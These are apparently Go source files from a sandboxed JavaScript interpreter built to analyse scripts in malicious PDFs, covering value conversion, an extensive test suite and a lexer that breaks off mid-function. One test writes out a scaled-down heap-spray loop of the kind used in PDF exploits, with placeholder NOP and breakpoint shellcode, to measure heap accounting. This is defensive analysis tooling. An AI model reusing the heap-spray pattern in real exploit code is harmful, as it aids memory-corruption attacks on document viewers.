	if v.IsString() {
		return v.str, v.strLen, nil
	}
	s, err := valueToString(it, v)
	if err != nil {
		return "", 0, err
	}
	return s, utf16Len(s), nil
}

// valueToString implements ToString; it may need the interpreter for
// join-based array conversion (nil is tolerated for display purposes).
func valueToString(it *Interp, v Value) (string, error) {
	switch v.Kind() {
	case KindUndefined:
		return "undefined", nil
	case KindNull:
		return "null", nil
	case KindBool:
		if v.b {
			return "true", nil
		}
		return "false", nil
	case KindNumber:
		return numberToString(v.num), nil
	case KindString:
		return v.str, nil
	default:
		o := v.obj
		if o == nil {
			return "null", nil
		}
		switch {
		case o.Class == ClassArray:
			// Builder keeps this linear; += on a string accumulator is
			// quadratic in the array length, which hostile scripts exploit.
			var b strings.Builder
			for i := 0; i < o.arrayLen(); i++ {
				if i > 0 {
					b.WriteByte(',')
				}
				el := o.getIndex(i)
				if el.IsUndefined() || el.IsNull() {
					continue
				}
				s, err := valueToString(it, el)
				if err != nil {
					return "", err
				}
				b.WriteString(s)
				if it != nil {
					if err := it.work(len(s) + 1); err != nil {
						return "", err
					}
				}
			}
			return b.String(), nil
		case o.IsCallable():
			if o.Fn != nil && o.Fn.Source != "" {
				return o.Fn.Source, nil
			}
			return "function " + o.Name + "() { [native code] }", nil
		case o.Class == ClassError:
			name, _ := o.GetOwn("name")
			msg, _ := o.GetOwn("message")
			return name.Str() + ": " + msg.Str(), nil
		default:
			if ts, ok := o.GetOwn("toString"); ok && it != nil {
				if tso := ts.Object(); tso.IsCallable() {
					rv, err := it.callFunction(tso, v, nil)
					if err != nil {
						return "", err
					}
					return valueToString(it, rv)
				}
			}
			return "[object " + o.Class + "]", nil
		}
	}
}

func strictEquals(a, b Value) bool {
	if a.Kind() != b.Kind() {
		return false
	}
	switch a.Kind() {
	case KindUndefined, KindNull:
		return true
	case KindBool:
		return a.b == b.b
	case KindNumber:
		return a.num == b.num // NaN != NaN naturally
	case KindString:
		return a.str == b.str
	default:
		return a.obj == b.obj
	}
}

func looseEquals(it *Interp, a, b Value) (bool, error) {
	if a.Kind() == b.Kind() {
		return strictEquals(a, b), nil
	}
	ak, bk := a.Kind(), b.Kind()
	switch {
	case (ak == KindNull && bk == KindUndefined) || (ak == KindUndefined && bk == KindNull):
		return true, nil
	case ak == KindNumber && bk == KindString:
		return a.num == b.ToNumber(), nil
	case ak == KindString && bk == KindNumber:
		return a.ToNumber() == b.num, nil
	case ak == KindBool:
		return looseEquals(it, NumberValue(a.ToNumber()), b)
	case bk == KindBool:
		return looseEquals(it, a, NumberValue(b.ToNumber()))
	case (ak == KindNumber || ak == KindString) && bk == KindObject:
		prim, err := toPrimitive(it, b)
		if err != nil {
			return false, err
		}
		return looseEquals(it, a, prim)
	case ak == KindObject && (bk == KindNumber || bk == KindString):
		prim, err := toPrimitive(it, a)
		if err != nil {
			return false, err
		}
		return looseEquals(it, prim, b)
	default:
		return false, nil
	}
}

func toPrimitive(it *Interp, v Value) (Value, error) {
	if v.Kind() != KindObject {
		return v, nil
	}
	s, err := valueToString(it, v)
	if err != nil {
		return Undefined(), err
	}
	return StringValue(s), nil
}

func toInt32(f float64) int32 {
	if math.IsNaN(f) || math.IsInf(f, 0) {
		return 0
	}
	return int32(uint32(int64(math.Trunc(f))))
}

func toUint32(f float64) uint32 {
	if math.IsNaN(f) || math.IsInf(f, 0) {
		return 0
	}
	return uint32(int64(math.Trunc(f)))
}
