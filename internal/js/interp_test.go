package js

import (
	"errors"
	"math"
	"strings"
	"testing"
)

// run evaluates src and returns the completion value.
func run(t *testing.T, src string) Value {
	t.Helper()
	it := New()
	v, err := it.Run(src)
	if err != nil {
		t.Fatalf("run %q: %v", src, err)
	}
	return v
}

func runNum(t *testing.T, src string) float64 {
	t.Helper()
	v := run(t, src)
	if !v.IsNumber() {
		t.Fatalf("%q: got %s, want number", src, v.TypeOf())
	}
	return v.Num()
}

func runStr(t *testing.T, src string) string {
	t.Helper()
	v := run(t, src)
	if !v.IsString() {
		t.Fatalf("%q: got %s (%v), want string", src, v.TypeOf(), v)
	}
	return v.Str()
}

func TestArithmetic(t *testing.T) {
	tests := []struct {
		src  string
		want float64
	}{
		{"1+2;", 3},
		{"10-4;", 6},
		{"6*7;", 42},
		{"9/2;", 4.5},
		{"10%3;", 1},
		{"2*3+4;", 10},
		{"2+3*4;", 14},
		{"(2+3)*4;", 20},
		{"-5+3;", -2},
		{"1 << 4;", 16},
		{"255 >> 4;", 15},
		{"-1 >>> 28;", 15},
		{"0xff & 0x0f;", 15},
		{"0xf0 | 0x0f;", 255},
		{"0xff ^ 0x0f;", 240},
		{"~0;", -1},
		{"0x41;", 65},
		{"1e3;", 1000},
		{"2.5e-1;", 0.25},
		{"Math.pow(2,10);", 1024},
		{"Math.floor(3.7);", 3},
		{"Math.max(1,5,3);", 5},
	}
	for _, tt := range tests {
		if got := runNum(t, tt.src); got != tt.want {
			t.Errorf("%q = %v, want %v", tt.src, got, tt.want)
		}
	}
}

func TestStringOps(t *testing.T) {
	tests := []struct {
		src  string
		want string
	}{
		{`'a'+'b';`, "ab"},
		{`'n='+5;`, "n=5"},
		{`5+'=n';`, "5=n"},
		{`'abc'.toUpperCase();`, "ABC"},
		{`'ABC'.toLowerCase();`, "abc"},
		{`'hello'.substring(1,3);`, "el"},
		{`'hello'.substr(1,3);`, "ell"},
		{`'hello'.slice(-3);`, "llo"},
		{`'hello'.charAt(1);`, "e"},
		{`'a,b,c'.split(',').join('-');`, "a-b-c"},
		{`'aXbXc'.replace('X','_');`, "a_bXc"},
		{`String.fromCharCode(72,105);`, "Hi"},
		{`'abc'.concat('def','!');`, "abcdef!"},
		{`typeof 'x';`, "string"},
		{`typeof 5;`, "number"},
		{`typeof undefined;`, "undefined"},
		{`typeof null;`, "object"},
		{`typeof function(){};`, "function"},
		{`typeof notDeclared;`, "undefined"},
		{`(256).toString(16);`, "100"},
	}
	for _, tt := range tests {
		if got := runStr(t, tt.src); got != tt.want {
			t.Errorf("%q = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestStringLengthAndCharCode(t *testing.T) {
	if got := runNum(t, `'hello'.length;`); got != 5 {
		t.Errorf("length = %v", got)
	}
	if got := runNum(t, `'A'.charCodeAt(0);`); got != 65 {
		t.Errorf("charCodeAt = %v", got)
	}
	// Non-ASCII: unescape produces UTF-16 semantics.
	if got := runNum(t, `unescape('%u0c0c%u0c0c').length;`); got != 2 {
		t.Errorf("unescape length = %v, want 2", got)
	}
	if got := runNum(t, `unescape('%u0c0c').charCodeAt(0);`); got != 0x0c0c {
		t.Errorf("unescape charCode = %v, want %v", got, 0x0c0c)
	}
	if got := runNum(t, `unescape('%41%42').length;`); got != 2 {
		t.Errorf("%%XX unescape length = %v", got)
	}
	if got := runStr(t, `unescape('%41%42');`); got != "AB" {
		t.Errorf("unescape = %q", got)
	}
	if got := runStr(t, `escape('A B');`); got != "A%20B" {
		t.Errorf("escape = %q", got)
	}
}

func TestControlFlow(t *testing.T) {
	tests := []struct {
		src  string
		want float64
	}{
		{"var x=0; if (1<2) x=1; else x=2; x;", 1},
		{"var x=0; if (1>2) x=1; else x=2; x;", 2},
		{"var s=0; for (var i=1;i<=10;i++) s+=i; s;", 55},
		{"var s=0, i=0; while (i<5) { s+=i; i++; } s;", 10},
		{"var s=0, i=0; do { s+=i; i++; } while (i<3); s;", 3},
		{"var s=0; for (var i=0;i<10;i++){ if (i==5) break; s+=i; } s;", 10},
		{"var s=0; for (var i=0;i<5;i++){ if (i%2) continue; s+=i; } s;", 6},
		{"var r=0; switch(2){case 1: r=10; break; case 2: r=20; break; default: r=30;} r;", 20},
		{"var r=0; switch(9){case 1: r=10; break; default: r=30;} r;", 30},
		{"var r=0; switch(1){case 1: r+=1; case 2: r+=2; break; case 3: r+=4;} r;", 3},
		{"var c=0; var o={a:1,b:2,c:3}; for (var k in o) c++; c;", 3},
		{"1<2 ? 10 : 20;", 10},
		{"1>2 ? 10 : 20;", 20},
		{"var x=5; x += 3; x;", 8},
		{"var x=5; x *= 3; x;", 15},
		{"var x=8; x >>= 2; x;", 2},
		{"var x=1; x++; ++x; x;", 3},
		{"var x=1; x--; x;", 0},
		{"var x=5; var y = x++; y;", 5},
		{"var x=5; var y = ++x; y;", 6},
	}
	for _, tt := range tests {
		if got := runNum(t, tt.src); got != tt.want {
			t.Errorf("%q = %v, want %v", tt.src, got, tt.want)
		}
	}
}

func TestFunctions(t *testing.T) {
	tests := []struct {
		src  string
		want float64
	}{
		{"function f(a,b){return a+b;} f(2,3);", 5},
		{"var f = function(a){return a*2;}; f(21);", 42},
		{"function fib(n){ if (n<2) return n; return fib(n-1)+fib(n-2);} fib(10);", 55},
		{"function outer(){ var x=10; return function(){ return x+1; }; } outer()();", 11},
		{"function f(){ return arguments.length; } f(1,2,3);", 3},
		{"function f(){ return arguments[1]; } f(10,20);", 20},
		{"function f(a){ return a+0; } f();", math.NaN()},
		{"var o = {v: 7, get: function(){ return this.v; }}; o.get();", 7},
		{"function F(x){ this.x = x; } var o = new F(9); o.x;", 9},
		{"function f(a,b){return a-b;} f.call(null, 10, 3);", 7},
		{"function f(a,b){return a-b;} f.apply(null, [10, 3]);", 7},
		{"var s=0; function add(n){s+=n;} [1,2,3].sort(function(a,b){return b-a;}); add(1); s;", 1},
	}
	for _, tt := range tests {
		got := runNum(t, tt.src)
		if math.IsNaN(tt.want) {
			if !math.IsNaN(got) {
				t.Errorf("%q = %v, want NaN", tt.src, got)
			}
			continue
		}
		if got != tt.want {
			t.Errorf("%q = %v, want %v", tt.src, got, tt.want)
		}
	}
}

func TestArrays(t *testing.T) {
	tests := []struct {
		src  string
		want float64
	}{
		{"[1,2,3].length;", 3},
		{"var a=[]; a.push(4); a.push(5,6); a.length;", 3},
		{"var a=[1,2,3]; a.pop();", 3},
		{"var a=[1,2,3]; a.pop(); a.length;", 2},
		{"var a=[7,8]; a.shift();", 7},
		{"var a=[7,8]; a.unshift(6); a[0];", 6},
		{"var a=new Array(10); a.length;", 10},
		{"[1,2,3].indexOf(2);", 1},
		{"[1,2,3].indexOf(9);", -1},
		{"[3,1,2].sort()[0];", 1},
		{"[1,2].concat([3,4]).length;", 4},
		{"[1,2,3,4].slice(1,3).length;", 2},
		{"var a=[1,2,3]; a.reverse(); a[0];", 3},
		{"var a=[1,2,3]; a.length = 1; a.length;", 1},
		{"var a=[]; a[5]=1; a.length;", 6},
	}
	for _, tt := range tests {
		if got := runNum(t, tt.src); got != tt.want {
			t.Errorf("%q = %v, want %v", tt.src, got, tt.want)
		}
	}
	if got := runStr(t, "[1,2,3].join('+');"); got != "1+2+3" {
		t.Errorf("join = %q", got)
	}
	if got := runStr(t, "''+[1,2,3];"); got != "1,2,3" {
		t.Errorf("array toString = %q", got)
	}
}

func TestObjects(t *testing.T) {
	if got := runNum(t, "var o = {a: 1, b: {c: 2}}; o.b.c;"); got != 2 {
		t.Errorf("nested access = %v", got)
	}
	if got := runNum(t, "var o = {}; o['x'] = 3; o.x;"); got != 3 {
		t.Errorf("computed set = %v", got)
	}
	if got := runNum(t, "var o = {a:1}; delete o.a; o.a === undefined ? 1 : 0;"); got != 1 {
		t.Errorf("delete = %v", got)
	}
	if v := run(t, "var o = {a:1}; 'a' in o;"); !v.Bool() {
		t.Error("'a' in o should be true")
	}
	if v := run(t, "var o = {a:1}; o.hasOwnProperty('a');"); !v.Bool() {
		t.Error("hasOwnProperty true expected")
	}
	if v := run(t, "[1] instanceof Array;"); !v.Bool() {
		t.Error("[] instanceof Array expected true")
	}
}

func TestEquality(t *testing.T) {
	trueCases := []string{
		"1 == '1';", "null == undefined;", "0 == false;", "'' == false;",
		"1 === 1;", "'a' === 'a';", "null === null;",
		"NaN != NaN;", "1 !== '1';",
	}
	for _, src := range trueCases {
		if v := run(t, src); !v.ToBoolean() {
			t.Errorf("%q should be true", src)
		}
	}
	falseCases := []string{"NaN == NaN;", "null == 0;", "undefined == 0;", "1 === '1';"}
	for _, src := range falseCases {
		if v := run(t, src); v.ToBoolean() {
			t.Errorf("%q should be false", src)
		}
	}
}

func TestExceptions(t *testing.T) {
	if got := runNum(t, "var r=0; try { throw 42; } catch(e) { r = e; } r;"); got != 42 {
		t.Errorf("catch thrown number = %v", got)
	}
	if got := runStr(t, "var r=''; try { undefinedFn(); } catch(e) { r = e.name; } r;"); got != "TypeError" && got != "ReferenceError" {
		t.Errorf("error name = %q", got)
	}
	if got := runNum(t, "var r=0; try { throw 1; } catch(e) { r+=10; } finally { r+=100; } r;"); got != 110 {
		t.Errorf("finally = %v", got)
	}
	it := New()
	_, err := it.Run("throw 'boom';")
	var te *ThrowError
	if !errors.As(err, &te) {
		t.Fatalf("expected ThrowError, got %v", err)
	}
	if te.Value.Str() != "boom" {
		t.Errorf("thrown value = %v", te.Value)
	}
	// Uncaught error object from host throws.
	_, err = it.Run("null.x;")
	if !errors.As(err, &te) {
		t.Fatalf("expected ThrowError for null deref, got %v", err)
	}
}

func TestEval(t *testing.T) {
	if got := runNum(t, "eval('2+3');"); got != 5 {
		t.Errorf("eval = %v", got)
	}
	if got := runNum(t, "var x = 7; eval('x+1');"); got != 8 {
		t.Errorf("eval scope read = %v", got)
	}
	if got := runNum(t, "var x = 1; eval('x = 9'); x;"); got != 9 {
		t.Errorf("eval scope write = %v", got)
	}
	if got := runNum(t, "function f(){ var y = 5; return eval('y*2'); } f();"); got != 10 {
		t.Errorf("eval in function scope = %v", got)
	}
	if got := runNum(t, "eval('var q = 3; q+q');"); got != 6 {
		t.Errorf("eval var decl = %v", got)
	}
	// eval of nested eval (multi-layer obfuscation).
	if got := runNum(t, `eval("eval('1+1')");`); got != 2 {
		t.Errorf("nested eval = %v", got)
	}
	// Syntax errors inside eval are catchable.
	if got := runNum(t, "var r=0; try { eval('}{'); } catch(e) { r=1; } r;"); got != 1 {
		t.Errorf("eval syntax error catchable = %v", got)
	}
}

func TestHeapAccounting(t *testing.T) {
	it := New()
	if _, err := it.Run("var s = 'aaaaaaaaaa';"); err != nil {
		t.Fatal(err)
	}
	base := it.HeapBytes
	// Doubling concat: allocations accumulate.
	if _, err := it.Run("var t = s; for (var i=0;i<10;i++) t = t + t;"); err != nil {
		t.Fatal(err)
	}
	grown := it.HeapBytes - base
	// Final string is 10*2^10 = 10240 chars -> ~20KB; cumulative doubling
	// allocations sum to roughly twice that.
	if grown < 20_000 {
		t.Errorf("heap grew %d bytes, want >= 20000", grown)
	}
}

func TestHeapSprayPattern(t *testing.T) {
	// The canonical heap-spray loop from PDF malware, scaled down.
	src := `
var shellcode = unescape("%u9090%u9090%uCCCC");
var spray = unescape("%u0c0c%u0c0c");
while (spray.length < 16384) spray += spray;
var arr = [];
for (var i = 0; i < 50; i++) arr[i] = spray + shellcode;
arr.length;
`
	it := New()
	v, err := it.Run(src)
	if err != nil {
		t.Fatal(err)
	}
	if v.Num() != 50 {
		t.Errorf("spray array length = %v", v.Num())
	}
	// 50 strings of ~16K units at 2 bytes/unit plus the doubling chain.
	if it.HeapBytes < 1_500_000 {
		t.Errorf("spray heap = %d, want >= 1.5MB", it.HeapBytes)
	}
}

func TestStepBudget(t *testing.T) {
	it := New()
	it.StepLimit = 10_000
	_, err := it.Run("while(true){}")
	if !errors.Is(err, ErrBudget) {
		t.Fatalf("expected ErrBudget, got %v", err)
	}
}

func TestHeapLimit(t *testing.T) {
	it := New()
	it.MaxHeap = 1 << 20
	_, err := it.Run("var s='aaaaaaaaaaaaaaaa'; while(true) s += s;")
	if !errors.Is(err, ErrHeapLimit) {
		t.Fatalf("expected ErrHeapLimit, got %v", err)
	}
}

func TestHostObjects(t *testing.T) {
	it := New()
	calls := 0
	host := NewHostObject("app")
	host.Set("alert", ObjectValue(NewHostFunc("alert", func(it *Interp, this Value, args []Value) (Value, error) {
		calls++
		return Undefined(), nil
	})))
	host.DefineGetter("viewerVersion", func(it *Interp) (Value, error) {
		return NumberValue(9.0), nil
	})
	it.Global.Declare("app", ObjectValue(host))

	v, err := it.Run("app.alert('x'); app.alert('y'); app.viewerVersion;")
	if err != nil {
		t.Fatal(err)
	}
	if calls != 2 {
		t.Errorf("alert called %d times", calls)
	}
	if v.Num() != 9.0 {
		t.Errorf("viewerVersion = %v", v.Num())
	}
}

func TestThisBinding(t *testing.T) {
	it := New()
	doc := NewHostObject("Doc")
	info := NewObject()
	info.Set("title", StringValue("payload-here"))
	doc.Set("info", ObjectValue(info))
	it.This = ObjectValue(doc)
	it.Global.Declare("this", it.This) // not needed but harmless

	v, err := it.Run("this.info.title;")
	if err != nil {
		t.Fatal(err)
	}
	if v.Str() != "payload-here" {
		t.Errorf("this.info.title = %q", v.Str())
	}
}

func TestParserErrors(t *testing.T) {
	bad := []string{
		"var ;", "function(){}", "if (", "for (;;", "x ===", "1 +",
		"'unterminated", "{", "do { } while", "try {}",
		"var a = /re/;",
	}
	for _, src := range bad {
		if _, err := Parse(src); err == nil {
			t.Errorf("%q: expected parse error", src)
		}
	}
}

func TestASI(t *testing.T) {
	// Newline-terminated statements without semicolons.
	if got := runNum(t, "var a = 1\nvar b = 2\na + b"); got != 3 {
		t.Errorf("ASI = %v", got)
	}
	if got := runNum(t, "function f() { return\n5 }\nf() === undefined ? 1 : 0"); got != 1 {
		t.Errorf("return ASI = %v", got)
	}
}

func TestFunctionToStringGivesSource(t *testing.T) {
	got := runStr(t, "function f(a){ return a; } ''+f;")
	if !strings.Contains(got, "function f(a)") {
		t.Errorf("function source = %q", got)
	}
}

func TestStringIndexAccess(t *testing.T) {
	if got := runStr(t, "'abc'[1];"); got != "b" {
		t.Errorf("string index = %q", got)
	}
}

func TestVarHoisting(t *testing.T) {
	if got := runNum(t, "function f(){ return typeof x === 'undefined' ? 1 : 0; var x = 5; } f();"); got != 1 {
		t.Errorf("var hoisting = %v", got)
	}
	if got := runNum(t, "g(); function g(){ return 1; } g();"); got != 1 {
		t.Errorf("function hoisting = %v", got)
	}
}

func TestDeterministicMathRandom(t *testing.T) {
	a := runNum(t, "Math.random();")
	b := runNum(t, "Math.random();")
	if a != b {
		t.Errorf("Math.random not deterministic across fresh interpreters: %v vs %v", a, b)
	}
}

func TestMoreBuiltins(t *testing.T) {
	tests := []struct {
		src  string
		want string
	}{
		{`'hello'.lastIndexOf('l') + '';`, "3"},
		{`'abc'.indexOf('b', 2) + '';`, "-1"},
		{`'a-b-c'.split('')[0];`, "a"},
		{`(3.14159).toFixed(2);`, "3.14"},
		{`(5).toFixed(0);`, "5"},
		{`[1,[2,3]].concat(4).length + '';`, "3"},
		{`['b','a','c'].sort().join('');`, "abc"},
		{`[5,40,1].sort(function(a,b){return a-b;}).join(',');`, "1,5,40"},
		{`var a=[1,2,3]; a.slice(-2).join(',');`, "2,3"},
		{`'xyz'.substring(2, 0);`, "xy"},
		{`'abcdef'.substr(-3, 2);`, "de"},
		{`parseFloat('3.5abc') + '';`, "3.5"},
		{`parseFloat('junk') + '';`, "NaN"},
		{`isFinite(1/0) + '';`, "false"},
		{`isFinite(42) + '';`, "true"},
		{`(1, 2, 3) + '';`, "3"},
		{`void 0 === undefined ? 'y' : 'n';`, "y"},
		{`var o = {k: 1}; delete o.k; ('k' in o) + '';`, "false"},
		{`[] instanceof Object ? 'y' : 'n';`, "y"},
		{`(function(){}) instanceof Function ? 'y' : 'n';`, "y"},
		{`new Error('boom').message;`, "boom"},
		{`String(42);`, "42"},
		{`Number('0x10') + '';`, "16"},
		{`Boolean('') + '';`, "false"},
		{`'ok'.valueOf();`, "ok"},
		{`(255).toString(2);`, "11111111"},
		{`'A,B'.toLowerCase().split(',').reverse().join('');`, "ba"},
		{`Math.min(3,1,2) + '';`, "1"},
		{`Math.abs(-9) + '';`, "9"},
		{`Math.round(2.5) + '';`, "3"},
		{`Math.sqrt(81) + '';`, "9"},
	}
	for _, tt := range tests {
		v := run(t, tt.src)
		got, err := valueToString(nil, v)
		if err != nil {
			t.Fatalf("%q: %v", tt.src, err)
		}
		if got != tt.want {
			t.Errorf("%q = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestObjectLiteralKeysAndForInOrder(t *testing.T) {
	got := runStr(t, `
var o = {z: 1, a: 2, "m n": 3, 42: 4};
var keys = [];
for (var k in o) keys.push(k);
keys.join('|');
`)
	if got != "z|a|m n|42" {
		t.Errorf("for-in order = %q", got)
	}
}

func TestArrayShiftUnshiftSequence(t *testing.T) {
	if got := runStr(t, `var a=[3]; a.unshift(1,2); a.push(4); a.shift(); a.join(',');`); got != "2,3,4" {
		t.Errorf("got %q", got)
	}
}

func TestFunctionApplyWithThis(t *testing.T) {
	if got := runNum(t, `
var o = {v: 10};
function get(extra) { return this.v + extra; }
get.apply(o, [5]);
`); got != 15 {
		t.Errorf("apply this = %v", got)
	}
	if got := runNum(t, `
var o = {v: 20};
function get2(extra) { return this.v + extra; }
get2.call(o, 1);
`); got != 21 {
		t.Errorf("call this = %v", got)
	}
}

func TestDoWhileAndNestedBreak(t *testing.T) {
	if got := runNum(t, `
var n = 0;
do {
  for (var i = 0; i < 10; i++) {
    if (i == 3) break;
    n++;
  }
  n += 100;
} while (false);
n;
`); got != 103 {
		t.Errorf("got %v", got)
	}
}

func TestThrowObjectAndRethrow(t *testing.T) {
	if got := runStr(t, `
var msg = '';
try {
  try {
    throw new Error('inner');
  } catch (e) {
    throw e;
  }
} catch (e2) {
  msg = e2.message;
}
msg;
`); got != "inner" {
		t.Errorf("got %q", got)
	}
}

func TestHostGetterDynamicProperty(t *testing.T) {
	it := New()
	o := NewHostObject("env")
	calls := 0
	o.DefineGetter("now", func(it *Interp) (Value, error) {
		calls++
		return NumberValue(float64(calls)), nil
	})
	it.Global.Declare("env", ObjectValue(o))
	v, err := it.Run("env.now + env.now;")
	if err != nil {
		t.Fatal(err)
	}
	if v.Num() != 3 { // 1 + 2: getter evaluated per access
		t.Errorf("getter sum = %v", v.Num())
	}
}

func TestNewFunctionConstructor(t *testing.T) {
	if got := runNum(t, `var f = new Function("a", "b", "return a * b;"); f(6, 7);`); got != 42 {
		t.Errorf("new Function = %v", got)
	}
	if got := runNum(t, `var g = Function("return 5;"); g();`); got != 5 {
		t.Errorf("Function() = %v", got)
	}
}
