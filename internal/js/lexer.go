package js

import (
	"errors"
	"fmt"
	"math"
	"strings"
	"unicode/utf16"
	"unicode/utf8"
)

// ErrSyntax is wrapped by all lexer and parser errors.
var ErrSyntax = errors.New("js syntax error")

// lexer tokenizes Javascript source.
type lexer struct {
	src  string
	pos  int
	line int
}

func newLexer(src string) *lexer {
	return &lexer{src: src, line: 1}
}

// punctuators ordered longest-first so maximal munch works with a simple
// prefix scan.
var punctuators = []string{
	">>>=", "===", "!==", ">>>", "<<=", ">>=",
	"==", "!=", "<=", ">=", "&&", "||", "++", "--",
	"+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=", "<<", ">>",
	"{", "}", "(", ")", "[", "]", ";", ",", "<", ">", "+", "-", "*", "/",
	"%", "&", "|", "^", "!", "~", "?", ":", "=", ".",
}

// next returns the next token. prevKind is the kind of the previously
// returned significant token, used to disambiguate regex-vs-division (regex
// literals are not supported; a '/' in expression-start position is an
// error with a helpful message).
func (lx *lexer) next() (Token, error) {
	nl := lx.skipSpace()
	start := lx.pos
	startLine := lx.line
	if lx.pos >= len(lx.src) {
		return Token{Kind: TokEOF, Pos: start, Line: startLine, NewlineBefore: nl}, nil
	}
	c := lx.src[lx.pos]
	switch {
	case c == '"' || c == '\'':
		s, err := lx.lexString(c)
		if err != nil {
			return Token{}, err
		}
		return Token{Kind: TokString, Pos: start, Line: startLine, Str: s, NewlineBefore: nl}, nil
	case c >= '0' && c <= '9', c == '.' && lx.pos+1 < len(lx.src) && isDigit(lx.src[lx.pos+1]):
		n, err := lx.lexNumber()
		if err != nil {
			return Token{}, err
		}
		return Token{Kind: TokNumber, Pos: start, Line: startLine, Num: n, NewlineBefore: nl}, nil
	case isIdentStart(c):
		ident := lx.lexIdent()
		kind := TokIdent
		if keywords[ident] {
			kind = TokKeyword
		}
		return Token{Kind: kind, Pos: start, Line: startLine, Str: ident, NewlineBefore: nl}, nil
	default:
		for _, p := range punctuators {
			if strings.HasPrefix(lx.src[lx.pos:], p) {
				lx.pos += len(p)
				return Token{Kind: TokPunct, Pos: start, Line: startLine, Str: p, NewlineBefore: nl}, nil
			}
		}
		return Token{}, fmt.Errorf("%w: unexpected character %q at line %d", ErrSyntax, c, lx.line)
	}
}

// skipSpace consumes whitespace and comments, reporting whether a line
// terminator was crossed.
func (lx *lexer) skipSpace() (sawNewline bool) {
	for lx.pos < len(lx.src) {
		c := lx.src[lx.pos]
		switch {
		case c == '\n':
			sawNewline = true
			lx.line++
			lx.pos++
		case c == '\r' || c == ' ' || c == '\t' || c == '\v' || c == '\f':
			if c == '\r' {
				sawNewline = true
			}
			lx.pos++
		case c == '/' && lx.pos+1 < len(lx.src) && lx.src[lx.pos+1] == '/':
			for lx.pos < len(lx.src) && lx.src[lx.pos] != '\n' {
				lx.pos++
			}
		case c == '/' && lx.pos+1 < len(lx.src) && lx.src[lx.pos+1] == '*':
			lx.pos += 2
			for lx.pos+1 < len(lx.src) && !(lx.src[lx.pos] == '*' && lx.src[lx.pos+1] == '/') {
				if lx.src[lx.pos] == '\n' {
					sawNewline = true
					lx.line++
				}
				lx.pos++
			}
			lx.pos += 2
			if lx.pos > len(lx.src) {
				lx.pos = len(lx.src)
			}
		default:
			return sawNewline
		}
	}
	return sawNewline
}

func isDigit(c byte) bool { return c >= '0' && c <= '9' }

func isIdentStart(c byte) bool {
	return c == '_' || c == '$' || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c >= 0x80
}

func isIdentPart(c byte) bool { return isIdentStart(c) || isDigit(c) }

func (lx *lexer) lexIdent() string {
	start := lx.pos
	for lx.pos < len(lx.src) && isIdentPart(lx.src[lx.pos]) {
		lx.pos++
	}
	return lx.src[start:lx.pos]
}

func (lx *lexer) lexNumber() (float64, error) {
	start := lx.pos
	// Hex literal.
	if lx.src[lx.pos] == '0' && lx.pos+1 < len(lx.src) && (lx.src[lx.pos+1] == 'x' || lx.src[lx.pos+1] == 'X') {
		lx.pos += 2
		v := 0.0
		digits := 0
		for lx.pos < len(lx.src) {
			d, ok := hexDigit(lx.src[lx.pos])
			if !ok {
				break
			}
			v = v*16 + float64(d)
			digits++
			lx.pos++
		}
		if digits == 0 {
			return 0, fmt.Errorf("%w: malformed hex literal at line %d", ErrSyntax, lx.line)
		}
		return v, nil
	}
	for lx.pos < len(lx.src) && isDigit(lx.src[lx.pos]) {
		lx.pos++
	}
	if lx.pos < len(lx.src) && lx.src[lx.pos] == '.' {
		lx.pos++
		for lx.pos < len(lx.src) && isDigit(lx.src[lx.pos]) {
			lx.pos++
		}
	}
	if lx.pos < len(lx.src) && (lx.src[lx.pos] == 'e' || lx.src[lx.pos] == 'E') {
		save := lx.pos
		lx.pos++
		if lx.pos < len(lx.src) && (lx.src[lx.pos] == '+' || lx.src[lx.pos] == '-') {
			lx.pos++
		}
		if lx.pos < len(lx.src) && isDigit(lx.src[lx.pos]) {
			for lx.pos < len(lx.src) && isDigit(lx.src[lx.pos]) {
				lx.pos++
			}
		} else {
			lx.pos = save
		}
	}
	return parseDecimal(lx.src[start:lx.pos])
}

func hexDigit(c byte) (int, bool) {
	switch {
	case c >= '0' && c <= '9':
		return int(c - '0'), true
	case c >= 'a' && c <= 'f':
		return int(c-'a') + 10, true
	case c >= 'A' && c <= 'F':
		return int(c-'A') + 10, true
	}
	return 0, false
}

// parseDecimal parses a decimal float without strconv's full grammar
// (Javascript numbers here never need hex floats or underscores).
func parseDecimal(s string) (float64, error) {
	var mant float64
	i := 0
	for i < len(s) && isDigit(s[i]) {
		mant = mant*10 + float64(s[i]-'0')
		i++
	}
	if i < len(s) && s[i] == '.' {
		i++
		div := 1.0
		for i < len(s) && isDigit(s[i]) {
			div *= 10
			mant += float64(s[i]-'0') / div
			i++
		}
	}
	if i < len(s) && (s[i] == 'e' || s[i] == 'E') {
		i++
		neg := false
		if i < len(s) && (s[i] == '+' || s[i] == '-') {
			neg = s[i] == '-'
			i++
		}
		exp := 0
		for i < len(s) && isDigit(s[i]) {
			exp = exp*10 + int(s[i]-'0')
			i++
		}
		if neg {
			exp = -exp
		}
		mant *= math.Pow(10, float64(exp))
	}
	return mant, nil
}

// lexString lexes a quoted string literal handling the escape forms that
// appear in real PDF malware: \xNN, \uNNNN, octal, and the usual singles.
func (lx *lexer) lexString(quote byte) (string, error) {
	lx.pos++ // opening quote
	var b strings.Builder
	for lx.pos < len(lx.src) {
		c := lx.src[lx.pos]
		switch c {
		case quote:
			lx.pos++
			return b.String(), nil
		case '\n':
			return "", fmt.Errorf("%w: unterminated string at line %d", ErrSyntax, lx.line)
		case '\\':
			lx.pos++
			if lx.pos >= len(lx.src) {
				return "", fmt.Errorf("%w: dangling escape at line %d", ErrSyntax, lx.line)
			}
			e := lx.src[lx.pos]
			switch e {
			case 'n':
				b.WriteByte('\n')
				lx.pos++
			case 'r':
				b.WriteByte('\r')
				lx.pos++
			case 't':
				b.WriteByte('\t')
				lx.pos++
			case 'b':
				b.WriteByte('\b')
				lx.pos++
			case 'f':
				b.WriteByte('\f')
				lx.pos++
			case 'v':
				b.WriteByte('\v')
				lx.pos++
			case '0':
				b.WriteByte(0)
				lx.pos++
			case 'x':
				lx.pos++
				v, ok := lx.readHex(2)
				if !ok {
					return "", fmt.Errorf("%w: bad \\x escape at line %d", ErrSyntax, lx.line)
				}
				b.WriteRune(rune(v))
			case 'u':
				lx.pos++
				v, ok := lx.readHex(4)
				if !ok {
					return "", fmt.Errorf("%w: bad \\u escape at line %d", ErrSyntax, lx.line)
				}
				r := rune(v)
				if utf16.IsSurrogate(r) {
